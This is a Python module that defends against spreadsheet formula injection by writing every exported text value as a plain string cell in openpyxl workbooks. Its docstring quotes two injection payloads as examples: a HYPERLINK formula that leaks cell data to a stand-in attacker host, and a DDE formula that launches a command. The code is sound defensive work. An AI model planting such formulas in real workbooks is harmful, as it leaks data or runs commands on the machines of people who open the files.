"""Cells of the workbooks the server writes: every text is a plain string, never a formula.

openpyxl stores a string that begins with ``=`` as a formula, so a milestone named
``=HYPERLINK("http://evil.example/x?"&A2,"详情")`` or ``=cmd|' /C calc'!A0`` would become a
live formula in the leader's workbook. :func:`plain_row` is the one place every exported row
passes: each text becomes a string cell (type ``s``, written as a string whatever it starts
with) and loses the control characters a workbook cannot hold. Numbers, dates and ready-made
cells pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE


def text_cell(sheet: Any, value: str) -> Any:
    """A string cell of ``sheet`` holding ``value`` as text (ordinary or write-only sheets)."""
    cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"
    return cell


def plain_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` ready for ``sheet.append``: every ``str`` a string cell."""
    return [text_cell(sheet, v) if isinstance(v, str) else v for v in values]
